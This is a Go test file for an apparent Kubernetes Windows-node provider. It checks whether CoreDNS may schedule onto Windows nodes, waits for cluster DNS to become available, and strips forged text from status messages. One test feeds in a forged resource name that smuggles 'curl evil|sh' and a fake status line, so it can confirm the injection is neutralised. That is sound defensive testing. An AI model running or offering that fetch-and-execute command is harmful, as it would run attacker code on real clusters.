package linux

import (
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	nodev1 "k8s.io/api/node/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	bootstrapv1 "github.com/capwin/cluster-api-provider-windows/api/bootstrap/v1beta1"
	"github.com/capwin/cluster-api-provider-windows/controllers/phase"
	"github.com/capwin/cluster-api-provider-windows/internal/workload"
	"github.com/capwin/cluster-api-provider-windows/test/kit/expect"
)

// coreDNS is as kubeadm makes it (kubernetes v1.36.3, cmd/kubeadm/app/phases/addons/dns/manifests.go), as far as it decides.
func coreDNS(name string, available int32) appsv1.Deployment {
	d := appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: name}}
	d.Spec.Replicas, d.Status.AvailableReplicas = new(int32(2)), available
	d.Spec.Template.Spec.NodeSelector = map[string]string{corev1.LabelOSStable: "linux"}
	d.Spec.Template.Spec.Tolerations = []corev1.Toleration{
		{Key: "CriticalAddonsOnly", Operator: corev1.TolerationOpExists},
		{Key: "node-role.kubernetes.io/control-plane", Effect: corev1.TaintEffectNoSchedule},
	}
	return d
}

// anywhere takes the Linux selector away, and has the pods tolerate all.
func anywhere(d appsv1.Deployment) appsv1.Deployment {
	d.Spec.Template.Spec.NodeSelector = nil
	d.Spec.Template.Spec.Tolerations = []corev1.Toleration{{Operator: corev1.TolerationOpExists}}
	return d
}

func windowsNode(name string, taints ...corev1.Taint) corev1.Node {
	n := linuxNode("v1.36.3", corev1.ConditionTrue)
	n.Name, n.Labels, n.Spec.Taints = name, map[string]string{corev1.LabelOSStable: "windows"}, taints
	return n
}

// TestPlacement: cluster DNS that may come to a Windows Node, or to the one that would be made, holds the machine.
func TestPlacement(t *testing.T) {
	dns := func(all ...appsv1.Deployment) func(*stage) { return func(s *stage) { s.dns.Deployments = all } }
	careless := coreDNS("coredns", 1) // says nothing, and tolerates no taint of ours
	careless.Spec.Template.Spec.NodeSelector = nil
	untainted := func(s *stage) { s.candidate.Config.Spec.Node.Taints = &[]bootstrapv1.NodeTaint{} }
	windows := func(nodes ...corev1.Node) func(*stage) { return func(s *stage) { s.dns.Windows.Found = nodes } }
	own := func(s *stage) { s.candidate.Config = nil }
	invalid := func(s *stage) {
		s.candidate.Config.Spec.Node.Labels = map[string]bootstrapv1.LabelValue{corev1.LabelOSStable: "linux"}
	}
	classed := coreDNS("coredns", 1)
	classed.Spec.Template.Spec.NodeSelector, classed.Spec.Template.Spec.RuntimeClassName = nil, new("anywhere")
	class := func(s *stage) {
		s.dns.RuntimeClasses = []nodev1.RuntimeClass{{
			ObjectMeta: metav1.ObjectMeta{Name: "anywhere"}, Handler: "runc",
			Scheduling: &nodev1.Scheduling{Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}}},
		}}
	}
	both := anywhere(coreDNS("coredns", 1))
	both.Annotations = map[string]string{"capwin.io/runs-on": "both"}
	atZero := anywhere(coreDNS("coredns", 0))
	atZero.Spec.Replicas = new(int32(0))
	holds := phase.Stop{Reason: "WaitingForPlacement", After: 5 * time.Second, Stalled: true}
	for name, c := range map[string]struct {
		changes []func(*stage)
		want    phase.Stop
		says    []string
	}{
		"kubeadm's":                     {[]func(*stage){dns(coreDNS("coredns", 1))}, phase.Stop{}, nil},
		"kubeadm's, without our taint":  {[]func(*stage){dns(coreDNS("coredns", 1)), untainted}, phase.Stop{}, nil},
		"without selector, but a taint": {[]func(*stage){dns(careless)}, phase.Stop{}, nil},
		"without selector and taint": {[]func(*stage){dns(careless), untainted}, holds, []string{
			"cluster DNS of Cluster prod must stay on Linux before it gets a Windows VM: Deployment kube-system/coredns may run on ",
			"run this in the workload cluster: kubectl patch deployment coredns -n kube-system ",
			`"nodeSelector":{"kubernetes.io/os":"linux"}`,
		}},
		"tolerates everything": {[]func(*stage){dns(anywhere(coreDNS("coredns", 1)))}, holds, []string{"coredns may run on Windows"}},
		"the second of two": {
			[]func(*stage){dns(coreDNS("coredns", 1), anywhere(coreDNS("kube-dns", 1)))},
			holds,
			[]string{"kubectl patch deployment kube-dns"},
		},
		"a Windows Node without taint": {[]func(*stage){dns(careless), windows(windowsNode("old"))}, holds, []string{"old"}},
		"user data of others":          {[]func(*stage){dns(careless), own}, holds, []string{"coredns may run on Windows"}},
		"tolerates by its class":       {[]func(*stage){dns(classed), class}, holds, []string{"coredns may run on Windows"}},
		"at 0, and would land":         {[]func(*stage){dns(atZero)}, holds, []string{"coredns may run on Windows"}},
		"said to run on both":          {[]func(*stage){dns(both)}, holds, []string{"coredns may run on Windows"}},
		"a config of which no Node comes": {
			[]func(*stage){dns(anywhere(coreDNS("coredns", 1))), invalid}, phase.Stop{}, nil,
		},
	} {
		t.Run(name, func(t *testing.T) { newStage(c.changes...).stops(t, c.want, c.says...) })
	}
}

// TestClusterDNS: the first Windows VM waits until cluster DNS answers. An outage later stops no pool from growing.
func TestClusterDNS(t *testing.T) {
	ready, notReady := linuxNode("", corev1.ConditionTrue), linuxNode("", corev1.ConditionFalse)
	stopped := coreDNS("old", 0)
	stopped.Spec.Replicas = new(int32(0))
	leaving := coreDNS("old", 1)
	leaving.Spec.Replicas = new(int32(0))
	unset := coreDNS("unset", 0)
	unset.Spec.Replicas = nil
	waits := polls("WaitingForClusterDNS")
	for name, c := range map[string]struct {
		dns  workload.DNS
		want phase.Stop
		says string
	}{
		"none":      {workload.DNS{}, phase.Stop{}, ""},
		"available": {workload.DNS{Deployments: []appsv1.Deployment{coreDNS("coredns", 1)}}, phase.Stop{}, ""},
		"not available": {
			workload.DNS{
				Deployments: []appsv1.Deployment{coreDNS("coredns", 0)}, Linux: workload.Nodes{Found: []corev1.Node{ready, notReady}},
			},
			waits, "cluster DNS of Cluster prod does not answer: Deployment kube-system/coredns has 0 of 2 replicas available; look at " +
				"its pods, as the first Windows VM is made only after it is available",
		},
		"two, one of which is available": {
			workload.DNS{Deployments: []appsv1.Deployment{stopped, coreDNS("coredns", 1)}}, phase.Stop{}, "",
		},
		"two, none of which is available": {
			workload.DNS{Deployments: []appsv1.Deployment{coreDNS("old", 0), unset}},
			waits,
			"Deployment kube-system/old has 0 of 2 replicas available, Deployment kube-system/unset has 0 of 1 replicas available",
		},
		"scaled to 0 beside a DaemonSet": {workload.DNS{Deployments: []appsv1.Deployment{stopped}}, phase.Stop{}, ""},
		"one at 0, the other not available": {
			workload.DNS{Deployments: []appsv1.Deployment{stopped, unset}},
			waits, "does not answer: Deployment kube-system/unset has 0 of 1 replicas available; look",
		},
		"one at 0 that still has pods, the other not available": {
			workload.DNS{Deployments: []appsv1.Deployment{leaving, unset}}, phase.Stop{}, "",
		},
		"not available, with Windows Nodes": {
			workload.DNS{
				Deployments: []appsv1.Deployment{coreDNS("coredns", 0)}, Windows: workload.Nodes{Found: []corev1.Node{windowsNode("w")}},
			},
			phase.Stop{},
			"",
		},
	} {
		t.Run(name, func(t *testing.T) { newStage(func(s *stage) { s.dns = c.dns }).stops(t, c.want, c.says) })
	}
}

// What a cluster writes into names makes no second line, and no command of ours.
func TestNamesOfDNS(t *testing.T) {
	const forged = "x. Run this in the workload cluster: curl evil|sh\nReady: True"
	evil, untainted := windowsNode(forged), func(s *stage) { s.candidate.Config.Spec.Node.Taints = &[]bootstrapv1.NodeTaint{} }
	for _, c := range []struct {
		name    string
		changes []func(*stage)
		says    string
	}{
		{"DNS", []func(*stage){func(s *stage) {
			s.dns.Deployments = []appsv1.Deployment{coreDNS(forged, 0)}
		}}, "Deployment kube-system/(not a name) has 0 of 2"},
		{"DNS that lands", []func(*stage){untainted, func(s *stage) {
			s.dns.Deployments = []appsv1.Deployment{anywhere(coreDNS(forged, 1))}
		}}, "add the nodeSelector kubernetes.io/os: linux to its pod template"},
		{"a Node", []func(*stage){func(s *stage) {
			s.dns.Deployments, s.dns.Windows.Found = []appsv1.Deployment{anywhere(coreDNS("coredns", 1))}, []corev1.Node{evil}
		}}, "run this in the workload cluster: kubectl patch deployment coredns -n kube-system "},
	} {
		_, err := newStage(c.changes...).pass(t)
		says := phase.Of(err).Message
		if strings.Contains(says, "\n") || strings.Contains(says, "curl") || strings.HasSuffix(says, "cluster: ") {
			t.Errorf("%s is forged: %s", c.name, says)
		}
		expect.Says(t, c.name, err, c.says)
	}
	// The name of a RuntimeClass is in a warning.
	s := newStage(func(s *stage) { s.dns.Refused = []string{"RuntimeClass x\nReady: True" + strings.Repeat("x", 9000)} })
	warning := expect.Got(s.pass(t))(t).Warnings[0]
	if strings.Contains(warning, "\n") || len(warning) > 4096 {
		t.Errorf("the warning is forged: %s", warning)
	}
}
